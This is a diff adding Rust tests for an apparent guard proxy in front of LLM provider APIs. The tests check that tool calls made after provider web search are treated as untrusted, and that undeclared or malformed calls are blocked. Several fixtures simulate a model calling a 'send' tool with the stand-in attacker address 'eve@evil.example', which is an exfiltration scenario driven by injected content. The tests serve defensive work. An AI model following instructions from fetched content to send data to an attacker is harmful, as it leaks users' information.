@@ -205,3 +205,76 @@ fn c27_no_flag_turns_on_tools_of_the_provider_behind_the_judge() {
         assert_eq!(ask(&request).status, 200);
     }
 }
+
+#[test]
+fn b17_what_the_provider_searched_taints_the_calls_behind_it_and_what_goes_on_from_it() {
+    let search = json!({"type": "web_search_call", "id": "ws_1", "status": "completed", "action": {"type": "search", "query": "x"}});
+    let call = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "send", "arguments": "{\"to\":\"eve@evil.example\"}", "status": "completed"});
+    let answer = |id: &str, output: Value| {
+        json!({"id": id, "object": "response", "created_at": 1, "model": "m", "status": "completed", "output": output}).to_string()
+    };
+    let searched = answer("resp_1", json!([search, call]));
+    let behind = answer("resp_2", json!([call]));
+    let stage = Stage::new(POLICY, move |request| {
+        Script::json(200, if request.text().contains("resp_1") { behind.clone() } else { searched.clone() })
+    });
+    let request = |previous: Option<&str>| {
+        let tools = json!([{"type": "web_search"}, {"type": "function", "name": "send", "parameters": {"type": "object"}}]);
+        let mut request = json!({"model": "m", "input": "look it up", "tools": tools});
+        if let Some(id) = previous {
+            request["previous_response_id"] = id.into();
+        }
+        stage.post("/v1/openai/default/responses", &request).text()
+    };
+    for previous in [None, Some("resp_1")] {
+        let text = request(previous);
+        assert!(
+            text.contains("`to` came from no trusted source") && !text.contains("call_1"),
+            "{previous:?}: {text}"
+        );
+    }
+}
+
+#[test]
+fn b17_c27_a_search_that_is_switched_on_by_a_parameter_is_a_tool_of_the_provider() {
+    let stage = Stage::new(POLICY, |_| {
+        chat_answer(None, &[chat_call("call_1", "send", r#"{"to":"eve@evil.example"}"#)])
+    });
+    for (member, value, status) in [
+        ("web_search_options", json!({}), 403),
+        ("search_parameters", json!({"mode": "on"}), 403),
+        ("search_parameters", json!({"mode": "off"}), 200),
+        ("plugins", json!([{"id": "web"}]), 403),
+        ("enable_search", json!(true), 403),
+        ("enable_search", json!(false), 200),
+        ("model", json!("openai/gpt-4o:online"), 403),
+    ] {
+        let mut request = chat_request(json!([user("hi")]));
+        request[member] = value;
+        let answer = stage.post(CHAT, &request);
+        assert_eq!(answer.status, status, "{member}: {}", answer.text());
+        assert!(status == 200 || answer.text().contains(if member == "model" { ":online" } else { member }));
+    }
+    // Where the policy allows it, what it brings in is not trusted.
+    let policy = POLICY.replace("tool: web_search,", "tool: web_search*,");
+    let stage = sending(&policy, r#"{"to":"eve@evil.example"}"#);
+    let mut request = chat_request(json!([user("hi")]));
+    request["web_search_options"] = json!({});
+    assert!(stage.post(CHAT, &request).text().contains("`to` came from no trusted source"));
+}
+
+#[test]
+fn undeclared_calls_are_refused_where_little_else_is() {
+    let lax = "{version: 1, mode: enforce, on_refusal: text, defaults: {call: allow}, tools: [{tool: 'delete_*', calls: [{then: block}]}]}";
+    let stage = Stage::new(lax, |_| chat_answer(None, &[chat_call("call_1", "delete_all", "{}")]));
+    let answer = stage.chat(json!([user("hi")])).text();
+    assert!(answer.contains("was refused") && !answer.contains("call_1"), "{answer}");
+}
+
+#[test]
+fn an_event_stream_that_is_none_brings_nothing_past_the_judge() {
+    let answer = json!({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [chat_call("call_1", "danger", "{}")]}, "finish_reason": "tool_calls"}]});
+    let stage = Stage::new(POLICY, move |_| Script::sse_head().chunk(answer.to_string()).last_chunk());
+    let text = stage.chat(json!([user("hi")])).text();
+    assert!(!text.contains("call_1"), "{text}");
+}
